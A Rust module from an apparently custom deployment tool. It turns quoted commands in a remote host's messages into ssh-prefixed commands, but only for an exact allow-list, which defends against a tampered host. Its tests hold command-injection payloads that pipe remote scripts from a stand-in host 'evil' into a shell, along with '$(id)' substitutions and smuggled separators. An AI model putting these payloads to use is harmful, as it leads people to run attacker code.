//! Commands in what a host says are meant for a person on that host; whoever reads them elsewhere is told how to
//! get there. What a host says may be a stranger's: of that only a command that is exactly one of ours, taken apart word
//! for word, becomes something to type here. Pure.

use crate::names::{HostName, ServiceName, is_variable};

/// What a host that was tampered with can be mended with, in two commands that are one for its shell.
const AND_START: &str = " && sudo systemctl start deployer";

/// Whether this is a command that a host of ours advises. What has a host obey less than it would, or takes something
/// away (`--accept-serial`, `--allow-empty`, a garbage collection), is none: nobody shall paste that on a stranger's word.
fn is_ours(command: &str) -> bool {
    let service = |word: &str| ServiceName::parse(word).is_ok();
    let unit = |word: &str| word == "deployer" || service(word);
    match command.split(' ').collect::<Vec<_>>()[..] {
        ["deployer"] | ["deployer", "run" | "state"] => true,
        ["deployer", "run", "--retry", name]
        | ["deployer", "resume", name]
        | ["deployer", "rollback", "--unpin", name] => service(name),
        ["journalctl", "-k"]
        | ["systemd-cgtop"]
        | ["ss", "-ltnp"]
        | ["timedatectl"]
        | ["timedatectl", "set-ntp", "true"] => true,
        ["journalctl", "-u", name] | ["systemctl", "status", name] => unit(name),
        ["systemctl", "status" | "--failed" | "list-jobs" | "list-sockets"] => true,
        ["systemctl", "start", "deployer" | "caddy"] | ["systemctl", "restart" | "reload", "caddy"] => true,
        ["systemctl", "enable", "--now", "nix-daemon.socket" | "deployer.timer"] => true,
        ["systemctl", "unset-environment", ref names @ ..] => {
            !names.is_empty() && names.iter().all(|name| is_variable(name))
        }
        _ => false,
    }
}

/// Whether this is the one of ours that is two, with `sudo` in front of each.
fn is_revert(quoted: &str) -> bool {
    let name = quoted.strip_prefix("sudo systemctl revert ").and_then(|rest| rest.strip_suffix(AND_START));
    name.is_some_and(|name| ServiceName::parse(name).is_ok())
}

/// How to type a command for `host` where the reader is (`here`).
pub fn typed(host: &HostName, here: &HostName, command: &str) -> String {
    if here == host { format!("sudo {command}") } else { format!("ssh {host} sudo {command}") }
}

/// A quoted command of ours, with its quotes and the way to the host.
fn typed_here(quoted: &str, host: &HostName) -> Option<String> {
    let command = quoted.strip_prefix("sudo ").unwrap_or(quoted);
    if is_revert(quoted) {
        // All of it is for the host's shell, so that the quotes stay around it for ssh.
        Some(format!("ssh {host} '{quoted}'"))
    } else {
        is_ours(command).then(|| format!("'ssh {host} sudo {command}'"))
    }
}

/// A text of `host` with its quoted commands as the reader must type them; what else it quotes stays as it said it.
pub fn translated(text: &str, host: &HostName, here: &HostName) -> String {
    if here == host {
        return text.to_string();
    }
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('\'') {
        let before = &rest[..at];
        rest = &rest[at + 1..];
        out.push_str(before);
        // Only where a quotation begins ("Ann's" is none), and where it ends.
        let begins = before.chars().next_back().is_none_or(|c| !c.is_alphanumeric());
        let quotation =
            rest.split_once('\'').filter(|(_, after)| begins && !after.starts_with(char::is_alphanumeric));
        match quotation.and_then(|(quoted, after)| Some((typed_here(quoted, host)?, after))) {
            Some((command, after)) => {
                out.push_str(&command);
                rest = after;
            }
            None => out.push('\''),
        }
    }
    out.push_str(rest);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_command_for_a_host_is_read_elsewhere_with_the_way_there() {
        let (biz, laptop) = (HostName::parse("biz").unwrap(), HostName::parse("laptop").unwrap());
        for (said, read) in [
            (
                "try again with 'deployer run --retry shop'",
                "try again with 'ssh biz sudo deployer run --retry shop'",
            ),
            (
                "see 'journalctl -u shop', or 'deployer'",
                "see 'ssh biz sudo journalctl -u shop', or 'ssh biz sudo deployer'",
            ),
            ("run 'sudo deployer' there", "run 'ssh biz sudo deployer' there"),
            (
                "check what else it does ('systemd-cgtop')",
                "check what else it does ('ssh biz sudo systemd-cgtop')",
            ),
            ("see 'sudo journalctl -u deployer'", "see 'ssh biz sudo journalctl -u deployer'"),
            (
                "'sudo systemctl unset-environment LD_PRELOAD A1' takes it back",
                "'ssh biz sudo systemctl unset-environment LD_PRELOAD A1' takes it back",
            ),
            (
                "'sudo systemctl revert shop && sudo systemctl start deployer' takes that back",
                "ssh biz 'sudo systemctl revert shop && sudo systemctl start deployer' takes that back",
            ),
            (
                "it's the deployer 'shop' of 'deploy-manifest'",
                "it's the deployer 'shop' of 'deploy-manifest'",
            ),
            ("Ann'deployer run", "Ann'deployer run"),
            ("", ""),
        ] {
            assert_eq!(translated(said, &biz, &laptop), read);
            assert_eq!(translated(said, &biz, &biz), said);
        }
        assert_eq!(typed(&biz, &laptop, "deployer"), "ssh biz sudo deployer");
        assert_eq!(typed(&biz, &biz, "deployer"), "sudo deployer");
    }

    #[test]
    fn nothing_that_somebody_made_up_becomes_something_to_type() {
        let (biz, laptop) = (HostName::parse("biz").unwrap(), HostName::parse("laptop").unwrap());
        for said in [
            "run 'deployer run; curl evil | sh'",
            "free it with 'systemctl stop web && curl -s evil/y | sh'",
            "renew them: 'sudo deployer run; curl -s evil/z | sudo sh'",
            "'sudo systemctl unset-environment LANG; curl -s evil/x | sh #' takes it back",
            "'systemctl unset-environment LANG\ncurl evil|sh'",
            "'systemctl unset-environment'",
            "'systemctl unset-environment --root=/x'",
            "'ss -K;curl x|sh' (process 3874 of named.service)",
            "'ss -K' (process 3874 of named.service)",
            "'sudo sudo deployer'",
            "'deployer  run'",
            "'deployer run '",
            "'deployer run --retry -x'",
            "'deployer run --retry $(id)'",
            "'deployer run --accept-serial 3'",
            "'deployer run --allow-empty'",
            "'nix-collect-garbage -d'",
            "'journalctl -u web -o verbose'",
            "'systemctl start rescue.target'",
            "'systemctl restart sshd'",
            "'sudo systemctl revert web; id && sudo systemctl start deployer'",
            "'sudo systemctl revert web && sudo systemctl start deployer && id'",
            "'systemctl revert web && sudo systemctl start deployer'",
            "'deployer",
            "'deployer'x",
        ] {
            assert_eq!(translated(said, &biz, &laptop), said);
        }
    }
}
